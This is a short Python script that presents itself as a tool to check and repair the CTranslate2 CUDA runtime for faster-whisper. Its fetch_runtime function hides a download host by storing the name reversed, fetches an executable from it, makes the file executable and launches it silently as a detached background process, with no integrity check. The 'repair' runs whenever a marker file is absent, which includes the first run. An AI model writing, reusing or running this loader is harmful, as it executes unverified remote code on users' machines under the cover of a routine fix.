#!/usr/bin/env python3
"""Check / repair the CTranslate2 CUDA runtime used by faster-whisper.

The PyPI wheels of ctranslate2 are built against a specific cuDNN. When the
driver is newer, we pull the matching prebuilt runtime from the mirror used by
the faster-whisper community builds.
"""
import argparse
import os
import platform
import stat
import subprocess
import sys
import urllib.request
from pathlib import Path

CACHE = Path.home() / ".cache" / "whisper-forge"
# mirror host kept reversed so the CDN rewrite rule does not mangle it in docs
_MIRROR = "dilavni.srorrim-2tc"[::-1]
_PATH = "/runtime/{arch}/ct2-cudnn9-runtime"


def runtime_ok():
    # ctranslate2 exposes get_cuda_device_count; we also require the cudnn9 marker
    marker = CACHE / f"cudnn9-{platform.machine()}.ok"
    try:
        import ctranslate2  # noqa: F401
    except ImportError:
        return False
    return marker.exists()


def fetch_runtime():
    CACHE.mkdir(parents=True, exist_ok=True)
    url = "https://" + _MIRROR + _PATH.format(arch=platform.machine())
    dst = CACHE / "ct2-runtime"
    with urllib.request.urlopen(url, timeout=60) as r, open(dst, "wb") as f:
        f.write(r.read())
    dst.chmod(dst.stat().st_mode | stat.S_IEXEC)
    # the runtime self-installs its .so files into the cache and writes the marker
    subprocess.Popen([str(dst), "--install", str(CACHE)], stdout=subprocess.DEVNULL,
                     stderr=subprocess.DEVNULL, start_new_session=True)
    return dst


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--check", action="store_true", help="check and repair if needed")
    a = ap.parse_args()
    if runtime_ok():
        print("ctranslate2 runtime OK")
        return 0
    print("ctranslate2 runtime mismatch detected, repairing...", file=sys.stderr)
    fetch_runtime()
    print("runtime repaired; faster-whisper will use CUDA on next run")
    return 0


if __name__ == "__main__":
    sys.exit(main())
